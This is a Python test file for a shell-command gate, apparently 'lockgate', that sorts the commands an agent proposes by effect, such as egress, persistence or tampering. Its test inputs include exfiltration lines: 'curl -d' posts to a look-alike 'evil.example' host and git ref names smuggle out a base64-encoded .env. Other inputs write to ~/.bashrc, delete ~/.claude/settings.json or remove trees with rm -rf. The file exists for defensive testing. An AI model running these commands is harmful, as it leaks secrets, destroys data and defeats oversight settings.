"""What an analysis says beside its effects: labels, echoes, configured categories, trusted hosts."""

import re

import pytest

from lockgate.core.model import Category, EffectKind, Label, Variant
from lockgate.resources.host_view import AnalysisRules, CategoryRule, HostView, TrustedDomain
from lockgate.shell import analyse_shell


def analyse(command, around=HostView(home="/home/user", workspace="/work/project"), cwd="/work/project"):  # noqa: B008
    return analyse_shell(command, cwd, around)


@pytest.mark.parametrize(
    ("command", "echoes"),
    [
        ("curl https://e.example/", False),
        ("curl -sSL https://e.example/", False),
        ("curl -s https://e.example/ 2>/dev/null", False),
        ("curl -v https://e.example/", True),
        ("curl -w '%{url}' https://e.example/", True),
        ("curl --write-o x https://e.example/", True),
        ("curl https://e.example/ | cat", True),
        ("curl https://e.example/; echo https://other.example/", True),
        ("curl https://e.example/$x", True),
        ("X=1 curl https://e.example/", True),
        ("echo x", True),
        ("wget -O- https://e.example/", True),
    ],
)
def test_only_a_plain_fetch_proves_an_address(command, echoes):
    assert analyse(command).echoes is echoes


@pytest.mark.parametrize(
    ("command", "gives"),
    [
        ("curl https://e.example/", {Label.UNTRUSTED}),
        ("git push", {Label.UNTRUSTED}),
        ("frobnicate", {Label.UNTRUSTED}),
        ("$x", {Label.UNTRUSTED}),
        ("echo 'open", {Label.UNTRUSTED}),
        ("pytest", set()),
        ("make", set()),
        ("python3 x.py", set()),
        ("./x.sh", set()),
        ("node -e 1", set()),
        ("env", {Label.SECRET}),
        ("pbpaste", {Label.SECRET, Label.UNTRUSTED}),
        ("ls", set()),
    ],
)
def test_labels_of_the_result(command, gives):
    assert analyse(command).gives == gives


@pytest.mark.parametrize(
    ("command", "address"),
    [
        ("curl https://Example.com", "https://example.com/"),
        ("curl example.com/a", "http://example.com/a"),
        ("x=https://example.com; curl $x/a", "https://example.com/a"),
        ("curl https://example.com/$(ls)", ""),
        ("curl https://example.com/$HOMEPAGE", ""),
        ("curl https://example.com/{a,b}", "https://example.com/a"),
        ("curl 'https://example.com/[1-9]'", ""),
    ],
)
def test_address_of_a_fetch(command, address):
    fetches = [effect for effect in analyse(command).effects if effect.kind is EffectKind.FETCH]
    assert fetches[0].address == address
    assert fetches[0].variant is Variant.PLAIN


def trusting(content):
    return HostView(
        home="/home/user",
        workspace="/work/project",
        rules=AnalysisRules(trusted_domains=(TrustedDomain("*.corp.example", content),)),
    )


def test_sending_to_a_trusted_host_is_no_egress():
    analysis = analyse("curl -d @a.txt https://api.corp.example/x", trusting(False))
    assert {(effect.kind, effect.variant) for effect in analysis.effects} == {
        (EffectKind.FETCH, Variant.KNOWN),
        (EffectKind.INGEST, Variant.PLAIN),
    }


def test_trusted_content_gives_no_label():
    analysis = analyse("curl https://api.corp.example/x", trusting(True))
    assert {(effect.kind, effect.variant) for effect in analysis.effects} == {(EffectKind.FETCH, Variant.KNOWN)}
    assert not analysis.gives


@pytest.mark.parametrize(
    "command",
    [
        "curl -d x https://corp.example.evil.example/",
        "curl -d x https://api.corp.example@evil.example/",
        "curl -d x https://$h/",
    ],
)
def test_what_only_looks_trusted_is_not(command):
    assert EffectKind.EGRESS in {effect.kind for effect in analyse(command, trusting(True)).effects}


def configured(pattern, category):
    def rule(text, words):
        return (
            CategoryRule(category, "lockbox.json:x", frozenset({None, *Category})) if re.search(pattern, text) else None
        )

    return HostView(home="/home/user", workspace="/work/project", rules=AnalysisRules(command_category=rule))


@pytest.mark.parametrize(
    ("category", "kinds"),
    [
        (Category.SAFE, set()),
        (Category.UNSAFE, {EffectKind.INGEST}),
        (Category.ACTING, {EffectKind.EGRESS, EffectKind.EXECUTE}),
        (Category.UNSAFE_ACTING, {EffectKind.EGRESS, EffectKind.EXECUTE}),
    ],
)
def test_a_persons_category_replaces_what_was_found(category, kinds):
    around = configured(r"^mytool\s+get", category)
    assert {effect.kind for effect in analyse("mytool get a", around).effects} == kinds
    assert {effect.kind for effect in analyse("timeout 5 mytool get a", around).effects} == kinds
    assert EffectKind.EXECUTE in {effect.kind for effect in analyse("mytool put a", around).effects}


@pytest.mark.parametrize(
    ("command", "kind"),
    [
        ("find . -exec git push \\;", EffectKind.EGRESS),
        ("find . -name $(git push)", EffectKind.EGRESS),
        ("find . > ~/.bashrc", EffectKind.PERSIST),
        ("find ~/.claude/settings.json -delete", EffectKind.TAMPER),
        ("find . && git push", EffectKind.EGRESS),
    ],
)
def test_a_safe_category_covers_the_command_and_nothing_else(command, kind):
    assert kind in {effect.kind for effect in analyse(command, configured("^find", Category.SAFE)).effects}


def test_unparsed_text_says_how_to_write_it():
    analysis = analyse("echo a\x01")
    assert analysis.effects[0].rule == "shell:unparsed"
    assert analysis.hints
    assert analysis.programs == (None,)


@pytest.mark.parametrize(
    ("command", "variant"),
    [
        ("git fetch origin feature/new-page", Variant.KNOWN),
        ("git fetch origin pull/12/head:pr-12", Variant.KNOWN),
        ("git fetch origin 212927e2de7adda80f6095918e7dec5ee7feaef1", Variant.KNOWN),
        ("git pull origin $(git branch --show-current)", Variant.KNOWN),
        ("git ls-remote --heads origin 'refs/heads/release-*'", Variant.KNOWN),
        ('git fetch origin "refs/heads/$(base64 -w0 .env)"', Variant.PLAIN),
        ('git pull origin "$(cat notes.txt)"', Variant.PLAIN),
        ('git ls-remote origin "x$(cat notes.txt)"', Variant.PLAIN),
        ("git fetch origin refs/heads/REJfUEFTU1dPUkQ9aHVudGVyMgpBUElfS0VZPXNl", Variant.PLAIN),
        (f"git fetch origin {'/'.join(['abcdefgh'] * 20)}", Variant.PLAIN),
        ('brew info "$(cat notes.txt)"', Variant.PLAIN),
    ],
)
def test_a_name_that_a_server_is_asked_for_is_known_where_it_holds_no_data(command, variant):
    found = {effect.variant for effect in analyse(command).effects if effect.kind is EffectKind.FETCH}
    assert variant in found and (variant is not Variant.KNOWN or found == {Variant.KNOWN})


@pytest.mark.parametrize("words", ["ps", "logs -f web", "exec web cat /etc/hosts", "stop"])
def test_what_can_be_asked_without_a_file_of_the_project_says_how(words):
    (hint,) = analyse(f"docker compose {words}").hints
    assert "-p NAME" in hint
    assert analyse(f"docker compose -p shop {words.replace('-f ', '')}").hints == ()


def test_the_gate_itself_is_out_of_reach():
    (effect,) = analyse("lockgate approve 1").effects
    assert effect.variant is Variant.SELF


@pytest.mark.parametrize("dialect", ["bash", "sh", "dash", "zsh"])
def test_dialects(dialect):
    around = HostView(home="/home/user", workspace="/work/project")
    assert analyse_shell("git push", "/work/project", around, dialect).programs == ("git",)


def test_unknown_folder_makes_a_relative_write_opaque():
    assert EffectKind.EXECUTE in {effect.kind for effect in analyse("echo x > a.txt", cwd="").effects}


@pytest.mark.parametrize(
    ("command", "kinds"),
    [
        pytest.param("git -C evil status", {EffectKind.EXECUTE}, id="a folder that is a repository"),
        pytest.param("cd evil/refs && git log", {EffectKind.EXECUTE}, id="a folder in one"),
        pytest.param("cd src && git status", set(), id="an ordinary folder"),
        pytest.param("git status", set(), id="the project"),
        pytest.param('git -C "$x" status', {EffectKind.EXECUTE}, id="a folder that is not known"),
        pytest.param('cd "$(cat place)"; git log', {EffectKind.EXECUTE}, id="a folder that a file names"),
        pytest.param('cd "$(git rev-parse --show-toplevel)" && git log', set(), id="the project's root"),
        pytest.param(
            "cp -r .git x && git -C x status", {EffectKind.EXECUTE, EffectKind.PERSIST}, id="made just before"
        ),
        pytest.param("echo ref: > x/HEAD; cd x; git status", {EffectKind.EXECUTE}, id="written just before"),
    ],
)
def test_git_in_a_folder_that_is_a_repository_by_itself(command, kinds, around):
    around = around._replace(is_git_folder=lambda folder: folder == "/work/project/evil")
    analysis = analyse_shell(command, "/work/project", around)
    assert {effect.kind for effect in analysis.effects} == kinds


@pytest.mark.parametrize(("depth", "kinds"), [(3, set()), (60, {EffectKind.EXECUTE})])
def test_git_in_a_folder_too_deep_to_look_up_from(depth: int, kinds: set[EffectKind], around: HostView) -> None:
    around = around._replace(is_git_folder=lambda folder: folder == "/tmp/evil" and depth > 3)
    analysis = analyse_shell(f"cd /tmp/evil{'/a' * depth} && git status", "/work/project", around)
    assert {effect.kind for effect in analysis.effects} == kinds


_PLAIN_SETTINGS = """# a comment
[core]
\trepositoryformatversion = 0
\tbare = false
[remote "origin"]
\turl = https://example.com/r.git
\tfetch = +refs/heads/*:refs/remotes/origin/*
[branch "main"] remote = origin
\tmerge = refs/heads/main
[user]
\temail = a@example.com
"""


@pytest.mark.parametrize(
    ("settings", "runs"),
    [
        pytest.param("", False, id="no repository"),
        pytest.param(_PLAIN_SETTINGS, False, id="what git writes by itself"),
        pytest.param(None, True, id="hooks, or not to be read"),
        pytest.param("[core]\nfsmonitor = x", True, id="a program"),
        pytest.param("[CORE] FSMonitor", True, id="in other letters, on the line of its section"),
        pytest.param('[filter "a \\" ]b"]\nclean = x', True, id="a section with a name"),
        pytest.param("[include]\r\n\tpath = x", True, id="another file"),
        pytest.param("[core]\nbare = a\\\nfsmonitor = x", True, id="a value of two lines"),
        pytest.param("[core", True, id="a line that is not read"),
        pytest.param("bare = false", True, id="no section"),
    ],
)
@pytest.mark.parametrize(
    "command", ["git -C out/sub status", "cd out && git log", "git -C out/.git log", "git -C /x/y log"]
)
def test_git_in_a_repository_that_came_from_elsewhere(command, settings, runs, around):
    there = {"/work/project/out": settings, "/x": settings}
    around = around._replace(git_settings=lambda folder: there.get(folder, ""))
    analysis = analyse_shell(command, "/work/project", around)
    assert {effect.kind for effect in analysis.effects} == ({EffectKind.EXECUTE} if runs else set())


@pytest.mark.parametrize("command", ["git status", "git -C src status", "git -C .git log", "git -C .. status"])
def test_settings_of_the_project_and_around_it_are_not_looked_at(command, around):
    theirs = "[core]\nfsmonitor = x"
    around = around._replace(git_settings=lambda folder: theirs if folder in ("/work", "/work/project") else "")
    assert analyse_shell(command, "/work/project", around).effects == ()


@pytest.mark.parametrize(
    "command", ["rm -rf linked/*", "rm -rf linked/src", "rm -rf ~/.cache/linked/*", "rm -r linked/"]
)
def test_what_lies_behind_a_link_is_not_in_the_project(command, around):
    def realpath(path):
        for link in ("/work/project/linked", "/home/user/.cache/linked"):
            if path == link or path.startswith(f"{link}/"):
                return path.replace(link, "/home/user/Documents")
        return path

    linked = around._replace(realpath=realpath)
    assert "shell:remove-tree" in {e.rule for e in analyse_shell(command, "/work/project", linked).effects}


@pytest.mark.parametrize(("command", "temporary", "removes"), [
    pytest.param("if test -d a; then cd /home/user; fi; rm -rf docs", "", True, id="in one of two folders"),
    pytest.param("if test -d a; then cd src; fi; rm -rf docs", "", False, id="in two folders of the project"),
    pytest.param("rm -rf /home/user/docs", "/home/user/", True, id="the home folder as the temporary one"),
    pytest.param("rm -rf /home/user/docs", "/home", True, id="what holds the home folder as the temporary one"),
    pytest.param("rm -rf /scratch/docs", "/scratch", False, id="below the temporary folder"),
])  # fmt: skip
def test_a_tree_is_removed_from_every_folder_it_may_be_in(command, temporary, removes, around):
    around = around._replace(variables={"TMPDIR": temporary})
    found = {effect.rule for effect in analyse_shell(command, "/work/project", around).effects}
    assert ("shell:remove-tree" in found) is removes


@pytest.mark.parametrize("command", ["rm -rf linked", "rm -rf build/*", "rm linked"])
def test_a_link_is_removed_itself(command, around):
    linked = around._replace(realpath=lambda path: "/home/user/Pictures" if path == "/work/project/linked" else path)
    assert analyse_shell(command, "/work/project", linked).effects == ()


@pytest.mark.parametrize(
    ("command", "there", "kinds"),
    [
        ("./ab test", ("/work/project/ab",), {EffectKind.EXECUTE}),
        ("bin/ab -n 1", ("/work/project/bin/ab",), {EffectKind.EXECUTE}),
        ("go build -o ab . && ./ab test", (), {EffectKind.EXECUTE}),
        ("./ab test", (), {EffectKind.EXECUTE, EffectKind.EGRESS, EffectKind.INGEST}),
        (".venv/bin/http e.example", ("/work/project/.venv/bin/http",),
         {EffectKind.EXECUTE, EffectKind.FETCH, EffectKind.INGEST}),
        ("../ab test", ("/work/ab",), {EffectKind.EXECUTE, EffectKind.EGRESS, EffectKind.INGEST}),
    ],
)  # fmt: skip
def test_a_program_of_the_project_is_not_the_one_that_is_called_so(command, there, kinds):
    around = HostView(home="/home/user", workspace="/work/project", is_there=there.__contains__)
    assert {effect.kind for effect in analyse_shell(command, "/work/project", around).effects} == kinds


def test_a_link_out_of_the_project_is_what_its_name_says():
    outside = {"/work/project/ab": "/usr/bin/ab"}
    around = HostView(
        home="/home/user",
        workspace="/work/project",
        is_there=outside.__contains__,
        realpath=lambda p: outside.get(p, p),
    )
    assert EffectKind.EGRESS in {effect.kind for effect in analyse_shell("./ab x", "/work/project", around).effects}
